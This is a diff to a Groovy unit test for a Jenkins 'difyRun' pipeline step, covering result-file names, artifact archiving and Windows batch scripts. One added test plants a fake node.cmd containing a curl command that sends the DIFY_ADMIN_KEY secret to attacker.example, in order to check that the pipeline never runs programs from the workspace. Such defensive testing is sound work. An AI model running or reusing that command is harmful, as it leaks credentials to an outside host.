@@ -8,8 +8,10 @@ import harness.Vars
 import org.junit.Before
 import org.junit.Test
 
-class DifyRunTest {
-    PipelineHarness h
+class DifyRunTest extends EngineTest {
+    DifyRunTest(String engine) {
+        super(engine)
+    }
 
     @Before
     void setUp() {
@@ -89,9 +91,9 @@ class DifyRunTest {
         h.call('difyRun', 'deploy', params)
         Map run = h.commands()[0]
         assertEquals(params, run.params)
-        assertEquals('/ws@tmp/dify-ci/params-2.json', run.env.DIFY_CI_PARAMS_FILE)
+        assertEquals('/ws@tmp/dify-ci/params-3.json', run.env.DIFY_CI_PARAMS_FILE)
         assertEquals('deploy', run.env.DIFY_CI_COMMAND)
-        assertEquals('.dify-ci/results/deploy-staging.json', run.env.DIFY_CI_RESULT_FILE)
+        assertEquals('.dify-ci/results/deploy-staging-c3.json', run.env.DIFY_CI_RESULT_FILE)
         assertFalse('no parameter value in any environment variable', run.env.values().any { it.contains('support-bot') || it.contains('alice') })
         Map ctxRun = h.runs[0]
         assertEquals([step: 'deploy', env: 'staging', config: null], ctxRun.params)
@@ -142,13 +144,35 @@ class DifyRunTest {
     @Test
     void windowsAgentsUseBatWithTheSameContract() {
         h.unix = false
-        h.workspace = 'C:\\ws'
+        h.workspace = 'C:/ws'
         h.call('difyRun', 'backup', [env: 'production', all: true])
         assertEquals([], h.named('sh'))
         List scripts = h.named('bat').collect { it.args[0].script }
-        assertEquals(['@' + NODE_CHECK, WIN_CONTEXT, WIN_RUN], scripts)
+        assertEquals([WIN_NODE_CHECK, WIN_CONTEXT, WIN_RUN], scripts)
         assertEquals([env: 'production', all: true], h.commands()[0].params)
         assertEquals('bat', h.commands()[0].shell)
+        assertEquals('the result lands in the workspace', ['C:/ws/.dify-ci/results/backup-production-c3.json'], h.files.keySet().findAll { it.contains('/results/') }.toList())
+    }
+
+    @Test
+    void windowsNeverRunsAProgramFromTheWorkspace() {
+        // cmd.exe looks in the current directory before PATH: a PR's node.cmd there would run inside withCredentials.
+        h.unix = false
+        h.workspace = 'C:/ws'
+        h.files['C:/ws/node.cmd'] = '@curl -d %DIFY_ADMIN_KEY% http://attacker.example'
+        h.call('difyRun', 'deploy', [env: 'production'])
+        for (Map bat : h.named('bat')) {
+            String script = bat.args[0].script
+            assertTrue('node is found on PATH only and called by its absolute path', script.startsWith('@for %%i in (node.exe) do @if "%%~$PATH:i"=="" ('))
+            String commands = script.replaceAll(/\(echo [^)]*\)/, '').replace('in (node.exe)', '')
+            assertFalse("no bare node command: ${script}", (commands =~ /(^|[\s@&(])node(\.exe)?(\s|$)/).find())
+        }
+        for (Map run : h.runs) {
+            assertEquals('run from the temp dir, not the workspace', 'C:/ws@tmp/dify-ci', run.cwd)
+            assertEquals('1', run.env.NoDefaultCurrentDirectoryInExePath)
+            assertEquals('the runner moves to the workspace itself', 'C:/ws', run.env.DIFY_CI_WORKSPACE)
+        }
+        assertTrue(h.runs.size() == 2)
     }
 
     @Test
@@ -157,9 +181,15 @@ class DifyRunTest {
         h.call('difyRun', 'status', [env: 'staging'])
         List runnerWrites = h.named('writeFile').findAll { it.args[0].text == RUNNER_TEXT }
         assertEquals(1, runnerWrites.size())
-        String path = runnerWrites[0].args[0].file
-        assertTrue(path, path ==~ /\/ws@tmp\/dify-ci\/runner-\d+-[0-9a-f]+\.cjs/)
+        String part = runnerWrites[0].args[0].file
+        String path = h.runs[0].runner
+        assertTrue(path, path ==~ /\/ws@tmp\/dify-ci\/runner-\d+-m?\d+\.cjs/)
+        assertEquals('written under its own name, then moved into place by node', "${path}.1.part".toString(), part)
+        assertEquals(RUNNER_TEXT, h.files[path])
+        assertFalse(h.files.containsKey(part))
         assertEquals(1, h.calls.count { it.name == 'sh' && it.args[0].script == NODE_CHECK })
+        Map check = h.named('withEnv').find { it.args[0].contains("DIFY_CI_RUNNER_PART=${part}".toString()) }
+        assertNotNull('the check renames the part file to the runner', check)
         assertTrue(h.runs.every { it.runner == path })
         h.workspace = '/other-ws'
         h.call('difyRun', 'validate', [:])
@@ -172,7 +202,7 @@ class DifyRunTest {
         PipelineError e = expectError { h.call('difyRun', 'validate', [:]) }
         assertTrue(e.message, e.message.startsWith('dify-ci needs Node.js >= 20 on the agent'))
         assertEquals([], h.runs)
-        assertFalse(h.files.keySet().any { it.contains('runner-') })
+        assertFalse('no runner at its final name', h.files.keySet().any { it.contains('runner-') && it.endsWith('.cjs') })
     }
 
     @Test
@@ -187,14 +217,14 @@ class DifyRunTest {
             ]])]
         }
         h.call('difyRun', 'smoke', [env: 'staging'])
-        assertEquals([[artifacts: '.dify-ci/reports/smoke-staging.xml,.dify-ci/reports/smoke.html,.dify-ci/reports/win.md', allowEmptyArchive: true]],
+        assertEquals([[artifacts: '.dify-ci/results/smoke-staging-c3.json,.dify-ci/reports/smoke-staging.xml,.dify-ci/reports/smoke.html,.dify-ci/reports/win.md', allowEmptyArchive: true]],
             h.named('archiveArtifacts')*.args*.getAt(0))
     }
 
     @Test
-    void nothingIsArchivedWhenTheResultListsNoArtifacts() {
+    void onlyTheResultFileIsArchivedWhenTheResultListsNoArtifacts() {
         h.call('difyRun', 'status', [env: 'staging'])
-        assertEquals([], h.named('archiveArtifacts'))
+        assertEquals([[artifacts: '.dify-ci/results/status-staging-c3.json', allowEmptyArchive: true]], h.named('archiveArtifacts')*.args*.getAt(0))
     }
 
     @Test
@@ -209,8 +239,10 @@ class DifyRunTest {
     @Test
     void resultFilesAreNamedPerCommandEnvironmentAndShard() {
         h.call('difyRun', 'deploy', [env: 'production', shard: '2/4'])
-        assertEquals('.dify-ci/results/deploy-production-2_4.json', h.commands()[0].env.DIFY_CI_RESULT_FILE)
-        assertEquals([command: 'deploy', status: 'success'], new JsonSlurper().parseText(h.files['/ws/.dify-ci/results/deploy-production-2_4.json']).subMap(['command', 'status']))
+        h.call('difyRun', 'deploy', [env: 'production', shard: '2/4'])
+        assertEquals('the call id keeps two calls apart', ['.dify-ci/results/deploy-production-2_4-c3.json', '.dify-ci/results/deploy-production-2_4-c5.json'],
+            h.commands()*.env*.DIFY_CI_RESULT_FILE)
+        assertEquals([command: 'deploy', status: 'success'], new JsonSlurper().parseText(h.files['/ws/.dify-ci/results/deploy-production-2_4-c3.json']).subMap(['command', 'status']))
     }
 
     @Test
@@ -219,6 +251,6 @@ class DifyRunTest {
         h.call('difyRun', 'status', [env: 'staging'])
         List files = h.runs.collect { it.env.DIFY_CI_PARAMS_FILE }
         assertEquals(files.unique(false), files)
-        assertEquals((1..4).collect { "/ws@tmp/dify-ci/params-${it}.json".toString() }, files)
+        assertEquals('1 went to the runner\'s part file', [2, 3, 4, 5].collect { "/ws@tmp/dify-ci/params-${it}.json".toString() }, files)
     }
 }
